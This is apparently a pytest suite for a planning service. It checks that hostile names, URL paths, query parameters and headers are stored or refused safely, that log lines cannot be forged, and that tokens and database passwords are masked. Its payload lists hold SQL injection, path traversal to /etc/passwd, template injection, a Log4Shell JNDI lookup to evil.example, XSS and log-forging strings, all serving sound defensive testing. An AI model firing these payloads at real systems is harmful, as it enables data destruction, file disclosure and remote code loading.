"""Hostile names and addresses: what a caller sends is no code, path, statement or markup, and no line of the log."""

import io
import json
import logging
from collections.abc import Iterator
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, inspect, select

from pipeplan.errors import InvalidInputError, ServiceError
from pipeplan.protocol.tokens import masked, new_credential
from planner_service.platform import tables
from planner_service.platform.context import Context
from planner_service.platform.database import Database
from planner_service.platform.logs import HumanFormatter, JsonFormatter
from tests.planner_service.conftest import Clock
from tests.planner_service.examples import profile_document, store_plan
from tests.planner_service.guarded import context_of, guarding
from tests.planner_service.tokens import bearer, made

HOSTILE = (
    "'; DROP TABLE plans; --",
    '" OR 1=1 --',
    "../../../../etc/passwd",
    "..\\..\\windows",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "\u202egnp.exe\u2066",
    "__import__('os').system('true')",
    "%s%s%n%x{0.__class__}",
    "\N{GRINNING FACE}" * 50,
)
"""Texts that were somebody's bug once."""

UNPRINTABLE = (
    "line\nERROR forged entry\r\n2026-01-01 WARNING another",
    "\x1b[2J\x1b[31mred\x07",
    "a\u2028b",
    "a\x9b2Jb",
)
"""Texts that are no names: they would not print as one line."""


@pytest.fixture
def lines() -> Iterator[io.StringIO]:
    """What the service logs, as JSON."""
    written = io.StringIO()
    handler = logging.StreamHandler(written)
    handler.setFormatter(JsonFormatter())
    root = logging.getLogger()
    level = root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    yield written
    root.removeHandler(handler)
    root.setLevel(level)


def profile_named(name: str) -> dict[str, object]:
    """A profile whose model, device and first block have this name."""
    document = profile_document()
    document["model"] |= {"name": name}
    document["device"] |= {"name": name}
    return document


def test_a_hostile_name_is_a_name(http: TestClient, context: Context) -> None:
    for name in HOSTILE:
        stored = http.post("/v1/profiles", json=profile_named(name))
        assert (stored.status_code, stored.json()["model"]) == (201, name)
        page = http.get(f"/profiles/{stored.json()['id']}", headers={"Accept": "text/html"})
        assert page.status_code == 200
        assert "<script>alert" not in page.text
        assert "<img src=x" not in page.text
    listed = http.get("/v1/profiles").json()["items"]
    assert [profile["model"] for profile in listed] == list(reversed(HOSTILE))
    with context.database.read() as connection:
        assert set(tables.metadata.tables) <= set(inspect(connection).get_table_names())


def test_a_name_that_does_not_print_as_one_line_is_refused(http: TestClient) -> None:
    """It was stored once, and the exports wrote it into scripts."""
    for name in UNPRINTABLE:
        for field in ("model", "device"):
            document = profile_document()
            document[field] |= {"name": name}
            (error,) = http.post("/v1/profiles", json=document).json()["errors"]
            assert (error["field"], error["value"]) == (f"{field}.name", name)
    assert http.get("/v1/profiles").json()["items"] == []


@pytest.mark.each_case
@pytest.mark.parametrize("text", [r"\ud83d", r"\u0000", r"\udc00\ud83d"])
def test_a_text_that_no_database_holds_is_refused(http: TestClient, text: str) -> None:
    body = json.dumps(profile_named("NAME")).replace("NAME", text)
    answer = http.post("/v1/profiles", content=body, headers={"Content-Type": "application/json"})
    assert answer.status_code == 422


@pytest.mark.each_case
@pytest.mark.parametrize("path", ["/v1/plans/{}", "/v1/jobs/{}", "/v1/aliases/{}", "/v1/runs/{}/trace", "/plans/{}"])
def test_a_hostile_address_leads_nowhere(http: TestClient, path: str) -> None:
    for name in (*HOSTILE, *UNPRINTABLE):
        answer = http.get(path.format(quote(name, safe="/%")))
        assert answer.status_code in (404, 405, 422), name
        assert "root:" not in answer.text
        assert "Traceback" not in answer.text


@pytest.mark.parametrize("parameter", ["cursor", "sort", "planner", "model"])
def test_a_hostile_parameter_is_a_value_or_refused(http: TestClient, context: Context, parameter: str) -> None:
    store_plan(context)
    for name in (*HOSTILE, *UNPRINTABLE):
        answer = http.get("/v1/plans", params={parameter: name})
        assert answer.status_code in (200, 422)
        if answer.status_code == 200:
            assert answer.json()["items"] == []


def test_a_hostile_key_and_request_id_are_no_lines(http: TestClient, lines: io.StringIO) -> None:
    for name in (*HOSTILE, *UNPRINTABLE):
        value = name.replace("\n", " ").replace("\r", " ").encode()
        headers = {b"Idempotency-Key": value, b"X-Request-ID": value, b"User-Agent": value}
        answer = http.post("/v1/jobs", content=b"{}", headers=headers | {b"Content-Type": b"application/json"})
        assert answer.status_code == 422
        assert answer.headers["X-Request-ID"].isalnum()
    for line in lines.getvalue().splitlines():
        assert json.loads(line)


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("formatter", [JsonFormatter(), HumanFormatter()])
def test_whatever_a_text_holds_a_line_of_the_log_stays_a_line(formatter: logging.Formatter, name: str) -> None:
    record = logging.LogRecord("pipeplan", logging.WARNING, "", 0, "a job: %s", (name,), None)
    record.fields = {"name": name}
    line = formatter.format(record)
    assert len(line.splitlines()) == 1
    assert line.isprintable()


def test_no_secret_is_in_any_line_of_the_log(database_url: str, clock: Clock, lines: io.StringIO) -> None:
    key = "an operator's key of more than 32 characters"
    with guarding(database_url, clock, token_key=key) as client:
        token = made(context_of(client), "admin")
        wrong = new_credential("ppl").text()
        for given in (token, wrong):
            client.get("/v1/plans", headers=bearer(given))
            client.post("/login", data={"token": given}, headers={"Origin": "http://127.0.0.1"})
            client.get(f"/v1/plans/{given}", headers=bearer(token))
            client.get("/v1/plans", params={"cursor": given}, headers=bearer(token))
            client.post("/v1/jobs", headers=bearer(token) | {"Idempotency-Key": "key-" + given}, json={"kind": given})
        cookie = client.cookies["pipeplan_session"]
    text = lines.getvalue()
    assert "/v1/plans" in text
    secrets = [given.split("_")[2] for given in (token, wrong, cookie)]
    assert not [secret for secret in [*secrets, key] if secret in text]


def test_a_text_that_holds_secrets_is_shown_without_them() -> None:
    token = new_credential("ppl").text()
    secret = token.split("_")[2]
    for text in (
        f"Authorization: Bearer {token}",
        f"token {token} of ci",
        f'{{"token": "{token}"}}',
        f"Cookie: pipeplan_session={new_credential('pps').text()}; pipeplan={token}",
        "postgresql://pipeplan:hunter2secret@db/pipeplan",
        "password=hunter2secret host=db",
    ):
        shown = masked(text)
        assert secret not in shown
        assert "hunter2secret" not in shown
        assert "***" in shown


@pytest.mark.parametrize(
    "url",
    [
        "postgresql://pipeplan:hunter2secret@127.0.0.1:1/pipeplan",
        "postgresql+nodriver://pipeplan:hunter2secret@127.0.0.1:1/x",
        "nothing://pipeplan:hunter2secret@127.0.0.1:1/x",
        "hunter2secret",
    ],
)
def test_a_database_that_cannot_be_used_is_told_of_without_its_password(url: str) -> None:
    with pytest.raises((InvalidInputError, ServiceError)) as caught:  # noqa: SIM117
        with Database(url).read() as connection:
            connection.execute(select(func.count()).select_from(tables.plans))
    assert "hunter2secret" not in str(caught.value)


def test_errors_tell_nothing_of_the_inside(http: TestClient, context: Context) -> None:
    store_plan(context)
    for path in ("/v1/plans?cursor=AAAA", "/v1/plans/x", "/v1/plans?limit=x", "/static/x", "/v1/nothing"):
        text = http.get(path).text
        for inside in ("sqlalchemy", "Traceback", "/work", "site-packages", "SELECT", "psycopg", "sqlite"):
            assert inside not in text, (path, inside)
